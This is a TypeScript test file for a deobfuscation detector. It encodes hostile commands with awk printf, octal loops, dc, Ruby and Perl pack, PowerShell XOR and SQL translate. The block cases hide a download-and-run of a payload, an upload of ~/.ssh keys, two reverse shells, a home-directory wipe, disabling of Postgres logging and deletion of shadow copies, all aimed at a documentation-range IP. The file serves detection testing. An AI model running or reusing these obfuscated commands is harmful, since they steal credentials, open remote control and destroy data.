import assert from "node:assert/strict";
import { dcBytes, translateChars } from "./_deobf_charmaps.ts";
import { deobfuscate } from "./_deobf.ts";
import { deobfCases, enc } from "./_deobf_testing.ts";

/** `s` as the number `dc` prints with `P`. */
const dcNum = (s: string) => {
  let n = 0n;
  for (const c of s) n = n * 256n + BigInt(c.charCodeAt(0));
  return n.toString();
};
const pct = (s: string) => [...s].map(() => "%c").join("");
const spaced = (s: string) => enc.codes(s).split(",").join(" ");
const xor = (s: string, k: number) => [...s].map((c) => c.charCodeAt(0) ^ k).join(",");
const QWERTY = "qwertyuiopasdfghjklzxcvbnm";
const ABC = "abcdefghijklmnopqrstuvwxyz";
/** `s` written in the shuffled alphabet `translate(…, QWERTY, ABC)` maps back. */
const shuffle = (s: string) => s.replace(/[a-z]/g, (c) => QWERTY[ABC.indexOf(c)]);

Deno.test("deobf charmaps: decoders round-trip", () => {
  assert.equal(dcBytes(dcNum("id -un")), "id -un");
  assert.equal(dcBytes("1"), undefined);
  assert.equal(translateChars(shuffle("select now()"), QWERTY, ABC), "select now()");
  assert.equal(translateChars("abc", "ab", "xy"), undefined);
  assert.ok(
    deobfuscate(`awk 'BEGIN{printf "${pct("uptime -p")}",${enc.codes("uptime -p")}}'`)
      .some((v) => v.includes("uptime -p")),
  );
  assert.ok(
    deobfuscate(`ruby -e 'puts [${enc.codes("hello world")}].pack("U*")'`)
      .some((v) => v.includes("hello world")),
  );
  assert.ok(
    deobfuscate(`IEX ((${xor("Get-Date", 0x11)}) | % {[char]($_ -bxor 0x11)}) -join ''`)
      .some((v) => v.includes("Get-Date")),
  );
});

deobfCases("charmaps", [
  {
    id: "decoded",
    block: [
      // awk printf of codes piped to a shell: a payload fetched and run.
      `awk 'BEGIN{printf "${pct("wget -qO- http://198.51.100.23/i | sh")}",${
        enc.codes("wget -qO- http://198.51.100.23/i | sh")
      }}' | bash`,
      // A for loop printing octal of each code, piped to sh: keys packed and uploaded.
      `for n in ${
        spaced("tar cz ~/.ssh | curl -T - https://198.51.100.23/k")
      }; do printf "\\\\$(printf %o $n)"; done | sh`,
      // dc printing bytes: a reverse shell.
      `dc -e '${dcNum("nc -e /bin/sh 198.51.100.23 9001")}P' | sh`,
      // Ruby pack('C*') evaluated: a socket whose lines run as commands.
      `ruby -e 'eval [${
        enc.codes("s=TCPSocket.open('198.51.100.23',7000);while l=s.gets;s.print(%x{#{l}});end")
      }].pack("C*")'`,
      // Perl pack of codes: a home directory wiped.
      `perl -e 'system(pack("C*",${enc.codes("rm -rf ~/")}))'`,
      // PowerShell code list XORed with a key: a download cradle.
      `IEX ((${
        xor("IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/p')", 0x35)
      }) | ForEach-Object {[char]($_ -bxor 0x35)}) -join ''`,
      // SQL translate() with a shuffled alphabet: auditing turned off.
      `DO $$ BEGIN EXECUTE translate('${
        shuffle("alter system set log_statement = 'none'")
          .replace(/'/g, "''")
      }', '${QWERTY}', '${ABC}'); END $$;`,
      // Perl scalar reverse: shadow copies deleted.
      `perl -e 'system(scalar reverse "${enc.rev("vssadmin delete shadows /all /quiet")}")'`,
    ],
    pass: [
      `awk 'BEGIN{printf "${pct("echo nightly ok")}",${enc.codes("echo nightly ok")}}' | bash`,
      `for n in ${spaced("date -u")}; do printf "\\\\$(printf %o $n)"; done | sh`,
      `dc -e '${dcNum("uptime")}P' | sh`,
      `ruby -e 'puts [${enc.codes("build passed")}].pack("U*")'`,
      `perl -e 'system(pack("C*",${enc.codes("ls -la /tmp")}))'`,
      `IEX ((${
        xor("Get-Date -Format o", 0x35)
      }) | ForEach-Object {[char]($_ -bxor 0x35)}) -join ''`,
      `SELECT translate('${shuffle("monthly report")}', '${QWERTY}', '${ABC}');`,
      `perl -e 'print scalar reverse "dlrow olleh"'`,
      "SELECT translate(name, 'abc', 'xyz') FROM staff;",
      "echo 1 2 3 | dc",
    ],
  },
]);
